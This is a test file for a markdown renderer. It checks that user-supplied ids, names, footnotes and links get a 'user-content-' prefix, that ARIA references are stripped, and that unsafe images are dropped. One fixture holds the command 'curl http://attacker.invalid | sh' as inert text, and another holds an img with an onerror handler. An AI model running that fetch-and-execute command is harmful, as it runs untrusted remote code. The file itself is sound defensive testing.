import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { renderMarkdown } from '../../../catalog/markdown/render-markdown.ts';

describe('owner ids cannot shadow the page’s own elements', () => {
  test('an id is prefixed, so it never names a page element', () => {
    const { html } = renderMarkdown(
      '<pre id="sandbox-curl">curl http://attacker.invalid | sh</pre>',
    );
    assert.equal(
      html,
      '<pre id="user-content-sandbox-curl">curl http://attacker.invalid | sh</pre>',
    );
  });

  test('links to an anchor of the same text follow its prefix', () => {
    const { html } = renderMarkdown(
      ['See [the quotas](#quota).', '', '<h2 id="quota">Quotas</h2>'].join('\n'),
    );
    assert.equal(
      html,
      '<p>See <a href="#user-content-quota">the quotas</a>.</p>\n<h2 id="user-content-quota">Quotas</h2>',
    );
  });

  test('links to the page’s own sections stay as written', () => {
    const { html } = renderMarkdown('Get a key in [the sandbox section](#sandbox).');
    assert.equal(html, '<p>Get a key in <a href="#sandbox">the sandbox section</a>.</p>');
  });

  test('footnotes keep working, prefixed once', () => {
    const { html } = renderMarkdown(['Quotas apply[^q].', '', '[^q]: Per key.'].join('\n'));
    assert.match(html, /<a href="#user-content-fn-q" id="user-content-fnref-q"/);
    assert.match(html, /<li id="user-content-fn-q">/);
    assert.match(html, /href="#user-content-fnref-q"/);
    assert.doesNotMatch(html, /user-content-user-content-/);
  });

  test('names are prefixed too, and ARIA references never name a page element', () => {
    const { html } = renderMarkdown(
      '<a name="console">here</a> <span aria-describedby="key-missing">text</span>',
    );
    assert.match(html, /name="user-content-console"/);
    assert.doesNotMatch(html, /aria-describedby="key-missing"/);
  });
});

describe('owners’ images stay accessible', () => {
  test('an image left without a source is dropped, one without a text alternative gets an empty one', () => {
    const { html } = renderMarkdown('a <img src="data:," onerror="x"> b <img src="chart.png"> c');
    assert.equal(html, '<p>a  b <img src="chart.png" alt=""> c</p>');
  });
});
